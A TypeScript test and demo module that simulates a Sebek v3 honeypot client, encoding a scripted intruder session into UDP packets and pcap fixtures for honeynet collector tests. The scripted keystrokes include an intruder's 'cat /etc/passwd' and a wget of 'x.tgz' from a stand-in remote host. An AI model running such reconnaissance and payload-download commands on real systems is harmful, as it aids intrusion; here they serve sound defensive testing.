/**
 * Sebek v3 client simulator, for tests and demos: a scripted intruder session (keystrokes of a few
 * commands with a typo corrected by backspaces, a fork, an open, socket calls) turned into real
 * Sebek v3 packets as the Linux client sends them: IPv4, TTL 32, UDP checksum 0, the Sebek port
 * as source and destination, the site magic. `sessionCapture` wraps them in a pcap, optionally with
 * counter gaps and garbage datagrams to the port; simulate-cli.ts sends them over a UDP socket.
 */
import { ipv4, ethernet } from '../packet/build.js';
import { writeU16 } from '../packet/bytes.js';
import { fixIpv4HeaderChecksum } from '../packet/checksum.js';
import { encodePcap } from '../packet/pcap-encode.js';
import { LinkType } from '../packet/types.js';
import { encodeSebekRecord, encodeSocketData, SEBEK_DEFAULT_PORT, SebekType, type SebekRecordInput } from './format.js';

export interface ScriptOptions {
  /** Client (honeypot) address used in socket records. Default 10.0.0.5. */
  clientIp?: string;
  /** Remote address the scripted wget connects to. Default 198.51.100.7. */
  remoteIp?: string;
  /** Time of the first record, seconds since the epoch. Default 2024-01-02 03:04:05 UTC. */
  startSec?: number;
  /** First counter value. Default 0. */
  startCounter?: number;
  /** Pid of the shell. Default 2001 (its parent, sshd, is pid - 1; children follow). */
  shellPid?: number;
}

/** The commands the script types, as keystroke bytes (\x7f = backspace, \t = tab). */
export const SCRIPTED_KEYSTROKES: readonly string[] = [
  'uname -a\r',
  'cat /etc/passwd\r',
  'wgte\x7f\x7fet http://REMOTE/x.tgz\r',
  'ls\t\r\n',
  'exit\r',
];

/** A scripted session, in the order the client would send it, counters consecutive. */
export function scriptedSession(opts: ScriptOptions = {}): SebekRecordInput[] {
  const client = opts.clientIp ?? '10.0.0.5';
  const remote = opts.remoteIp ?? '198.51.100.7';
  let sec = opts.startSec ?? 1704164645;
  let usec = 0;
  let counter = opts.startCounter ?? 0;
  const shell = opts.shellPid ?? 2001;
  const sshd = shell - 1;
  const out: SebekRecordInput[] = [];
  const add = (r: Omit<SebekRecordInput, 'counter' | 'timeSec' | 'timeUsec' | 'version'>): void => {
    usec += 137_000;
    if (usec >= 1_000_000) {
      sec += 1;
      usec -= 1_000_000;
    }
    out.push({ ...r, version: 3, counter: counter >>> 0, timeSec: sec, timeUsec: usec });
    counter = (counter + 1) % 0x1_0000_0000;
  };
  const type = (text: string): void => {
    for (const ch of text)
      add({ type: SebekType.READ, ppid: sshd, pid: shell, uid: 0, fd: 0, inode: 0, com: 'bash', data: Uint8Array.of(ch.charCodeAt(0)) });
  };
  const fork = (child: number): void =>
    add({ type: SebekType.READ, ppid: shell, pid: child, uid: 0, fd: 0, inode: 0, com: 'bash', data: new Uint8Array(0) });
  const text = (s: string): Uint8Array => new TextEncoder().encode(s);

  type(SCRIPTED_KEYSTROKES[0]);
  fork(shell + 1);
  add({ type: SebekType.WRITE, ppid: shell, pid: shell + 1, uid: 0, fd: 1, inode: 0, com: 'uname', data: text('Linux honeypot 2.6.18 i686\n') });

  type(SCRIPTED_KEYSTROKES[1]);
  fork(shell + 2);
  add({ type: SebekType.OPEN, ppid: shell, pid: shell + 2, uid: 0, fd: 3, inode: 131075, com: 'cat', data: text('/etc/passwd') });
  add({
    type: SebekType.READ,
    ppid: shell,
    pid: shell + 2,
    uid: 0,
    fd: 3,
    inode: 131075,
    com: 'cat',
    data: text('root:x:0:0:root:/root:/bin/bash\n'),
  });

  type(SCRIPTED_KEYSTROKES[2].replace('REMOTE', remote));
  fork(shell + 3);
  const sock = { dip: remote, dport: 80, sip: client, sport: 40001, proto: 6 };
  add({ type: SebekType.SOCKET, ppid: shell, pid: shell + 3, uid: 0, fd: 3, inode: 0, com: 'wget', data: encodeSocketData({ ...sock, call: 1 }) });
  add({ type: SebekType.SOCKET, ppid: shell, pid: shell + 3, uid: 0, fd: 3, inode: 0, com: 'wget', data: encodeSocketData({ ...sock, call: 3 }) });
  add({ type: SebekType.OPEN, ppid: shell, pid: shell + 3, uid: 0, fd: 4, inode: 131100, com: 'wget', data: text('x.tgz') });

  type(SCRIPTED_KEYSTROKES[3]);
  type(SCRIPTED_KEYSTROKES[4]);
  return out;
}

export interface SebekTransport {
  src: string;
  dst: string;
  /** Source and destination port (default 1101). */
  port?: number;
  /** Default 32, as the Sebek client sets it. */
  ttl?: number;
  /** IPv4 identification. */
  id?: number;
}

/** An IPv4 datagram carrying `payload` in UDP with checksum 0, as the Sebek client builds it. */
export function sebekDatagram(payload: Uint8Array, t: SebekTransport): Uint8Array {
  const port = t.port ?? SEBEK_DEFAULT_PORT;
  const udp = new Uint8Array(8 + payload.length);
  writeU16(udp, 0, port);
  writeU16(udp, 2, port);
  writeU16(udp, 4, udp.length);
  writeU16(udp, 6, 0); // no checksum
  udp.set(payload, 8);
  const ip = ipv4({ src: t.src, dst: t.dst, ttl: t.ttl ?? 32, id: t.id ?? 0 }, 17, udp);
  fixIpv4HeaderChecksum(ip, 0, 20);
  return ip;
}

export interface SessionCaptureOptions {
  magic: number;
  port?: number;
  /** Honeypot address (source of the Sebek packets). Default 10.0.0.5. */
  client?: string;
  /** Where the client sends them (any address on the honeynet side). Default 10.0.0.254. */
  collector?: string;
  /** Records as sent; default `scriptedSession({ clientIp: client })`. */
  records?: SebekRecordInput[];
  /** Indexes (into `records`) of records lost on the way: left out of the capture. */
  drop?: readonly number[];
  /** Garbage datagrams to the Sebek port, inserted before the record of the given index. */
  garbage?: readonly { before: number; payload: Uint8Array }[];
}

/** A pcap (Ethernet) of a simulated session, plus what went into it. */
export function sessionCapture(o: SessionCaptureOptions): { pcap: Uint8Array; sent: SebekRecordInput[]; captured: SebekRecordInput[] } {
  const client = o.client ?? '10.0.0.5';
  const collector = o.collector ?? '10.0.0.254';
  const sent = o.records ?? scriptedSession({ clientIp: client });
  const drop = new Set(o.drop ?? []);
  const frames: { tsSec: number; tsUsec: number; data: Uint8Array }[] = [];
  const t = { src: client, dst: collector, port: o.port };
  const eth = { src: '00:16:3e:00:00:05', dst: 'ff:ff:ff:ff:ff:ff' };
  const captured: SebekRecordInput[] = [];
  sent.forEach((r, i) => {
    for (const g of o.garbage ?? []) {
      if (g.before === i) frames.push({ tsSec: r.timeSec, tsUsec: r.timeUsec, data: ethernet(sebekDatagram(g.payload, { ...t, id: 0xdead }), eth) });
    }
    if (drop.has(i)) return;
    captured.push(r);
    frames.push({
      tsSec: r.timeSec,
      tsUsec: r.timeUsec,
      data: ethernet(sebekDatagram(encodeSebekRecord(r, o.magic), { ...t, id: i & 0xffff }), eth),
    });
  });
  return { pcap: encodePcap(frames, { linktype: LinkType.ETHERNET }), sent, captured };
}

/** The committed fixture fixtures/sebek/session.pcap: magic 0x2a2a2a2a, 3 records lost (one gap of 2, one of 1), one garbage datagram. */
export const FIXTURE_MAGIC = 0x2a2a2a2a;
export const FIXTURE_DROP: readonly number[] = [5, 6, 40];

export function sessionFixture(): Uint8Array {
  return sessionCapture({
    magic: FIXTURE_MAGIC,
    drop: FIXTURE_DROP,
    garbage: [{ before: 20, payload: new TextEncoder().encode('GET / HTTP/1.0\r\n\r\n this is not Sebek') }],
  }).pcap;
}
